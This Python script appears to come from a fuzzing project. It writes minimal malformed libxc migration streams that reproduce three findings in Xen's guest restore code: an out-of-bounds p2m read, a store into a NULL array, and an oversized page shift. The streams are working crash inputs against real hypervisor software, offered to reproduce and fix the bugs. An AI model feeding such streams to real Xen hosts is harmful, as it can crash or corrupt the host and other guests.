#!/usr/bin/env python3
"""Writes the minimal reproducers of findings XN-1 and XN-2 (docs/FUZZING.md). Usage: make_reproducers.py xn1|xn2 OUT

xn1: a libxc v2 stream of a 64-bit PV guest (pfns 0..1) whose only page is an L1 page table with one present PTE
     naming pfn 0xfffffffff, far beyond max_pfn. Xen's x86_pv_localise_page() looks that pfn up in its p2m without a
     bounds check (only an assert, compiled out in release builds): an out-of-bounds read.
xn2: the same stream with X86_PV_P2M_FRAMES end_pfn 0: max_pfn stays 0, expand_p2m() is never called, and
     handle_x86_pv_p2m_frames() stores the frame into the NULL p2m_pfns array.
xn3: an image and domain header with page_shift 38: read_headers() computes 1U << 38 (undefined behaviour)."""
import struct, sys

def record(rtype, body):
    pad = (8 - len(body) % 8) % 8
    return struct.pack("<II", rtype, len(body)) + body + b"\0" * pad

out = bytearray()
if sys.argv[1] == "xn3":
    out += struct.pack(">QIIHHI", 0xFFFFFFFFFFFFFFFF, 0x58454E46, 3, 0, 0, 0)
    out += struct.pack("<IHHII", 2, 38, 0, 4, 17)                            # x86 HVM, page_shift 38
    out += record(0, b"")
    open(sys.argv[2], "wb").write(out)
    sys.exit(0)
out += struct.pack(">QIIHHI", 0xFFFFFFFFFFFFFFFF, 0x58454E46, 2, 0, 0, 0)   # image header, v2, little-endian
out += struct.pack("<IHHII", 1, 12, 0, 4, 17)                                # domain header: x86 PV, 4 KiB pages, Xen 4.17
out += record(2, struct.pack("<BB6x", 8, 4))                                 # X86_PV_INFO: 64-bit, 4 levels
end_pfn = 0 if sys.argv[1] == "xn2" else 1
out += record(3, struct.pack("<IIQ", 0, end_pfn, 0))                         # X86_PV_P2M_FRAMES: pfns 0..end_pfn, p2m in pfn 0
page = bytearray(4096)
struct.pack_into("<Q", page, 0, (0xFFFFFFFFF << 12) | 1)                      # PTE 0: present, pfn 0xfffffffff
out += record(1, struct.pack("<II", 1, 0) + struct.pack("<Q", (1 << 60) | 0) + bytes(page))  # PAGE_DATA: pfn 0, L1TAB
out += record(0, b"")                                                        # END
open(sys.argv[2], "wb").write(out)
